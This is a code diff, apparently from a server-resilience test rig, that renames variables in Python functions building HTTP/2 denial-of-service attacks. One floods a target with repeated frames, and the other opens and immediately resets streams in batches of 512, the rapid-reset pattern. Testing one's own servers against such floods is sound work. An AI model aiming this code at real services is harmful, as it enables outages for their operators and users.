@@ -1,11 +1,11 @@
-"""HTTP/2 frames that request nothing: unknown types, connection frames, and streams that end at once."""
+"""HTTP/2 frames that request nothing: unknown types, connection frames, and streams that are reset immediately."""
 
 import struct
 from collections.abc import Callable, Iterator
 
 from abuses.target import Abuse, Case, Target
 from rig import http2
-from rig.hose import Hose, repeated
+from rig.sender import Sender, repeated
 
 #: The number of streams that are built at a time.
 BATCH = 512
@@ -21,38 +21,38 @@ def grpc(target: Target) -> int:
 
 def flood(frame: bytes, count: int, port: Callable[[Target], int] = web) -> Abuse:
     def abuse(target: Target) -> Iterator[None]:
-        hose = Hose(port(target), count, repeated(frame), http2.GREETING)
+        sender = Sender(port(target), count, repeated(frame), http2.GREETING)
         while True:
             yield
-            hose.turn()
+            sender.turn()
 
     return abuse
 
 
 def resets(count: int) -> Abuse:
-    """Sends streams with rising numbers, and resets each at once."""
+    """Sends streams with rising numbers, and resets each immediately."""
 
     def abuse(target: Target) -> Iterator[None]:
         fields, cancel = http2.fields("/healthz"), struct.pack("!I", 8)
-        begun = [0] * count
+        started = [0] * count
 
         def greeting(number: int) -> bytes:
-            begun[number] = 0
+            started[number] = 0
             return http2.GREETING
 
         def batch(number: int) -> bytes:
-            first = begun[number]
-            begun[number] += BATCH
+            first = started[number]
+            started[number] += BATCH
             return b"".join(
                 http2.frame(http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, stream, fields)
                 + http2.frame(http2.RESET, 0, stream, cancel)
                 for stream in range(2 * first + 1, 2 * (first + BATCH) + 1, 2)
             )
 
-        hose = Hose(target.http_port, count, batch, greeting)
+        sender = Sender(target.http_port, count, batch, greeting)
         while True:
             yield
-            hose.turn()
+            sender.turn()
 
     return abuse
 
